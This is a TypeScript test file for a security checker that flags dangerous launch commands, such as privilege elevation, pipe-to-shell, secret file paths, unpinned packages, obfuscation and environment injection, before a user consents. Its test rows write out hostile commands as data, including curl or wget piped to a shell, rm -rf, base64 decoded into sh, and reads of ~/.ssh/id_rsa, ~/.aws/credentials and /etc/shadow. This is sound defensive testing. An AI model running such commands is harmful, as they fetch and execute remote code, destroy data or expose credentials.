// findDangers: which parts of a launch the consent request flags, with which code and severity.
import { describe, expect, it } from 'vitest';
import type { RunnerPlan } from '../../../shared/domain/launch.js';
import type { SandboxPlan } from '../../../shared/domain/servers.js';
import { findDangers, hiddenLocations, type Platform } from '../../../main/core/security/index.js';
import { flaggedEnv } from '../../../main/core/security/env-policy.js';
import { parseRunner } from '../../../main/core/security/runners.js';

const HOME = '/home/ada';
const plan = (mode: SandboxPlan['mode'], extra: Partial<SandboxPlan> = {}): SandboxPlan => ({
  mode,
  writePaths: [],
  readPaths: [],
  ownWritePaths: [],
  ownReadPaths: [],
  runtimeWritePaths: [],
  tempDir: null,
  denyReadPaths: [],
  allowedDomains: [],
  ...extra,
});
const enforced = plan('enforced', { denyReadPaths: [`${HOME}/.ssh`] });

/** The runner part of a plan as planLaunch makes it before any pin: versions only where the command names them. */
function runnerOf(command: string, args: string[]): RunnerPlan | null {
  const inv = parseRunner(command, args);
  if (!inv) return null;
  return {
    tool: inv.tool,
    mode: 'own-cache',
    packages: inv.packages.map((p) => ({
      ecosystem: inv.ecosystem,
      name: p.name,
      requested: p.requested,
      version: p.exact,
      integrity: null,
      pinnedBy: p.exact ? ('config' as const) : null,
    })),
    cacheDir: '/cache',
    download: null,
    notes: [],
  };
}
const BLOB = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBoaWRkZW4gcGF5bG9hZCB0aGF0IHJ1bnMgc29tZXRoaW5nIG5hc3R5IG9uIHlvdXIgbWFjaGluZQ==';

interface Row {
  name: string;
  command: string;
  args?: string[];
  envNames?: string[];
  sandbox?: SandboxPlan;
  platform?: Platform;
  /** Every finding as code:severity, in any order. */
  expected: string[];
}

const rows: Row[] = [
  { name: 'a plain node server', command: 'node', args: ['/opt/server.js'], expected: [] },
  { name: 'pinned npx package', command: 'npx', args: ['-y', 'pkg@1.2.3'], expected: [] },
  { name: 'pinned scoped package', command: 'npx', args: ['-y', '@scope/pkg@1.0.0'], expected: [] },
  { name: 'pinned prerelease', command: 'npx', args: ['-y', '@scope/pkg@2.0.0-beta.1'], expected: [] },
  { name: 'pinned uvx tool', command: 'uvx', args: ['tool==1.2.0'], expected: [] },
  { name: 'pinned pipx run', command: 'pipx', args: ['run', 'tool==1.0'], expected: [] },
  { name: 'pnpm without dlx runs nothing from the registry', command: 'pnpm', args: ['start'], expected: [] },
  { name: 'a semicolon inside one word, no shell', command: 'node', args: ['server.js', '--query=a;b'], expected: [] },
  { name: 'an ordinary env name', command: 'node', envNames: ['API_TOKEN'], expected: [] },
  { name: 'a narrow write grant', command: 'node', sandbox: { ...enforced, writePaths: [`${HOME}/work`] }, expected: [] },

  { name: 'sudo', command: 'sudo', args: ['node', 'server.js'], expected: ['elevation:danger'] },
  { name: 'doas', command: 'doas', args: ['node', 'server.js'], expected: ['elevation:danger'] },
  { name: 'sudo by absolute path', command: '/usr/bin/sudo', args: ['-E', 'node'], expected: ['elevation:danger'] },
  { name: 'rm -rf', command: 'rm', args: ['-rf', '/tmp/x'], expected: ['recursive_delete:danger'] },
  { name: 'rm -r -f as separate flags', command: 'rm', args: ['-r', '-f', '/tmp/x'], expected: ['recursive_delete:danger'] },
  {
    name: 'curl piped to sh through bash -c',
    command: 'bash',
    args: ['-c', 'curl -fsSL https://get.example.sh | sh'],
    expected: ['shell_command:warning', 'network_tool:warning', 'pipe_to_shell:danger', 'chaining:danger'],
  },
  {
    name: 'wget piped to python',
    command: 'sh',
    args: ['-c', 'wget -qO- https://x.example/i.py | python3'],
    expected: ['shell_command:warning', 'network_tool:warning', 'pipe_to_shell:danger', 'chaining:danger'],
  },
  { name: 'sh -c with &&', command: 'sh', args: ['-c', 'cd /srv && node server.js'], expected: ['shell_command:warning', 'chaining:danger'] },
  { name: 'sh -c with rm -rf inside', command: 'sh', args: ['-c', 'rm -rf ~/tmp'], expected: ['shell_command:warning', 'recursive_delete:danger'] },
  {
    name: 'cmd /c on windows',
    command: 'cmd.exe',
    args: ['/c', 'npx -y pkg@1.0.0 & del x'],
    platform: 'win32',
    expected: ['shell_command:warning', 'chaining:danger'],
  },
  { name: 'bash -lc (flags clustered with c)', command: 'bash', args: ['-lc', 'cd /srv && npm start'], expected: ['shell_command:warning', 'chaining:danger'] },
  { name: 'sh -ec by absolute path', command: '/bin/sh', args: ['-ec', 'node server.js'], expected: ['shell_command:warning'] },
  {
    name: 'a lone & in a shell string starts a second command',
    command: 'sh',
    args: ['-c', 'curl -so /tmp/x https://x.example & node server.js'],
    expected: ['shell_command:warning', 'network_tool:warning', 'chaining:danger'],
  },
  {
    name: 'a newline in a shell string starts a second command',
    command: 'bash',
    args: ['-c', 'node server.js\ntouch /tmp/x'],
    expected: ['shell_command:warning', 'chaining:danger'],
  },
  { name: 'a redirection in a shell string is not chaining', command: 'sh', args: ['-c', 'node server.js 2>&1'], expected: ['shell_command:warning'] },
  { name: 'an ampersand in a spaced argument, no shell', command: 'node', args: ['server.js', '--title', 'Tom & Jerry'], expected: [] },
  { name: 'bash -e runs a script file, not a string', command: 'bash', args: ['-e', '/opt/start.sh'], expected: [] },
  { name: 'powershell -NonInteractive is not -c', command: 'pwsh', args: ['-NonInteractive', '-File', 'C:\\srv\\start.ps1'], platform: 'win32', expected: [] },
  { name: '; chaining in a spaced argument, no shell', command: 'node', args: ['-e', 'start(); process.exit(1)'], expected: ['chaining:warning'] },
  { name: '$(…) substitution in a spaced argument', command: 'python', args: ['-c', 'print("$(id)")  '], expected: ['chaining:warning'] },
  { name: 'reads ~/.ssh/id_rsa', command: 'cat', args: ['~/.ssh/id_rsa'], expected: ['secret_path:danger'] },
  { name: 'a bare id_ed25519 key name', command: 'node', args: ['server.js', '--key', 'id_ed25519'], expected: ['secret_path:danger'] },
  { name: 'reads ~/.aws/credentials', command: 'node', args: ['server.js', `${HOME}/.aws/credentials`], expected: ['secret_path:danger'] },
  {
    name: 'reads the macOS keychain',
    command: 'node',
    args: ['server.js', '/Users/ada/Library/Keychains/login.keychain-db'],
    expected: ['secret_path:danger'],
  },
  { name: 'reads ~/.kube/config', command: 'node', args: ['server.js', '--kubeconfig=~/.kube/config'], expected: ['secret_path:danger'] },
  { name: 'reads a .env file', command: 'node', args: ['--env-file=.env', 'server.js'], expected: ['secret_path:danger'] },
  { name: 'reads /etc/shadow', command: 'node', args: ['server.js', '/etc/shadow'], expected: ['secret_path:danger'] },
  { name: 'unpinned npx -y', command: 'npx', args: ['-y', 'pkg'], expected: ['unpinned_package:warning'] },
  { name: 'npx @latest does not pin', command: 'npx', args: ['pkg@latest'], expected: ['unpinned_package:warning'] },
  { name: 'npx with a range does not pin', command: 'npx', args: ['-y', 'pkg@^1.2.0'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned scoped package', command: 'npx', args: ['-y', '@scope/pkg'], expected: ['unpinned_package:warning'] },
  { name: 'npx.cmd on windows', command: 'C:\\Program Files\\nodejs\\npx.cmd', args: ['-y', 'pkg'], platform: 'win32', expected: ['unpinned_package:warning'] },
  { name: 'unpinned uvx', command: 'uvx', args: ['tool'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned pnpm dlx', command: 'pnpm', args: ['dlx', 'pkg'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned yarn dlx', command: 'yarn', args: ['dlx', 'pkg@next'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned npm exec', command: 'npm', args: ['exec', '--', 'pkg'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned bunx', command: 'bunx', args: ['pkg'], expected: ['unpinned_package:warning'] },
  { name: 'unpinned pipx run', command: 'pipx', args: ['run', 'tool'], expected: ['unpinned_package:warning'] },
  { name: 'a long base64 blob', command: 'node', args: ['-e', BLOB], expected: ['obfuscation:warning'] },
  {
    name: 'base64 -d in a shell string',
    command: 'sh',
    args: ['-c', 'echo aGk= | base64 -d | sh'],
    expected: ['shell_command:warning', 'chaining:danger', 'obfuscation:warning'],
  },
  {
    name: 'powershell -EncodedCommand',
    command: 'powershell.exe',
    args: ['-EncodedCommand', 'SQBFAFgA'],
    platform: 'win32',
    expected: ['shell_command:warning', 'obfuscation:warning'],
  },
  { name: 'ssh as the command', command: 'ssh', args: ['user@host', 'mcp-server'], expected: ['network_tool:warning'] },
  { name: 'NODE_OPTIONS set', command: 'node', envNames: ['API_TOKEN', 'NODE_OPTIONS'], expected: ['env_injection:warning'] },
  {
    name: 'LD_PRELOAD and PYTHONPATH set',
    command: 'node',
    envNames: ['LD_PRELOAD', 'PYTHONPATH'],
    expected: ['env_injection:warning', 'env_injection:warning'],
  },
  { name: 'any DYLD_ variable', command: 'node', envNames: ['DYLD_NEW_THING'], expected: ['env_injection:warning'] },
  {
    name: 'sandbox turned off',
    command: 'node',
    sandbox: plan('off'),
    expected: ['sandbox_off:warning'],
  },
  {
    name: 'no sandbox on this system',
    command: 'node',
    platform: 'win32',
    sandbox: plan('unsupported'),
    expected: ['no_sandbox:warning'],
  },
  { name: 'write grant of the home folder', command: 'node', sandbox: { ...enforced, writePaths: [HOME] }, expected: ['broad_write:warning'] },
  { name: 'write grant of the root', command: 'node', sandbox: { ...enforced, writePaths: ['/', `${HOME}/work`] }, expected: ['broad_write:warning'] },
  {
    name: 'write grant of a windows drive',
    command: 'node',
    platform: 'win32',
    sandbox: { ...enforced, writePaths: ['C:\\'] },
    expected: ['broad_write:warning'],
  },
];

const summarize = (row: Row) =>
  findDangers({
    command: row.command,
    args: row.args ?? [],
    flaggedEnv: flaggedEnv(Object.fromEntries((row.envNames ?? []).map((n) => [n, 'x']))),
    sandbox: row.sandbox ?? enforced,
    platform: row.platform ?? 'linux',
    homeDir: HOME,
    hidden: hiddenLocations(row.platform ?? 'linux', row.platform === 'win32' ? 'C:\\Users\\ada' : HOME, `${HOME}/.config/Steward`),
    runner: runnerOf(row.command, row.args ?? []),
    invocation: parseRunner(row.command, row.args ?? []),
  });

describe('findDangers', () => {
  it.each(rows)('$name → $expected', (row) => {
    const found = summarize(row);
    expect(found.map((f) => `${f.code}:${f.severity}`).sort()).toEqual([...row.expected].sort());
    for (const f of found) {
      expect(f.message.length).toBeGreaterThan(0);
      expect(f.evidence.length).toBeGreaterThan(0);
    }
  });

  it('shows the offending part as evidence', () => {
    const found = summarize({ name: '', command: 'node', args: ['server.js', '~/.ssh/id_rsa'], envNames: ['NODE_OPTIONS'], expected: [] });
    expect(found.find((f) => f.code === 'secret_path')?.evidence).toBe('~/.ssh/id_rsa');
    expect(found.find((f) => f.code === 'env_injection')?.evidence).toBe('NODE_OPTIONS=x');
  });

  it('names the package that is not pinned', () => {
    const [finding] = summarize({ name: '', command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem', '/srv'], expected: [] });
    expect(finding?.message).toContain('"@modelcontextprotocol/server-filesystem"');
    expect(finding?.code).toBe('unpinned_package');
    expect(finding?.evidence).toBe('npx -y @modelcontextprotocol/server-filesystem /srv');
  });

  it('cuts a huge blob in the evidence but keeps the finding', () => {
    const huge = 'A'.repeat(5000);
    const [finding] = summarize({ name: '', command: 'node', args: ['-e', huge], expected: [] });
    expect(finding?.code).toBe('obfuscation');
    expect(finding?.evidence.length).toBeLessThanOrEqual(201);
  });
});

describe('evidence from a long argument', () => {
  it('shows the part around the match, not the whole argument', () => {
    const long = `--roots=${Array.from({ length: 60 }, (_, i) => `/home/ada/projects/client-${i}`).join(',')},/home/ada/.ssh/id_rsa`;
    const [finding] = findDangers({
      command: 'node',
      args: ['server.js', long],
      flaggedEnv: [],
      sandbox: enforced,
      platform: 'linux',
      homeDir: HOME,
      hidden: hiddenLocations('linux', HOME, `${HOME}/.config/Steward`),
      runner: null,
      invocation: undefined,
    });
    expect(finding?.code).toBe('secret_path');
    expect(finding!.evidence.length).toBeLessThanOrEqual(170);
    expect(finding!.evidence).toContain('.ssh/id_rsa');
    expect(finding!.evidence.startsWith('…')).toBe(true);
  });
});
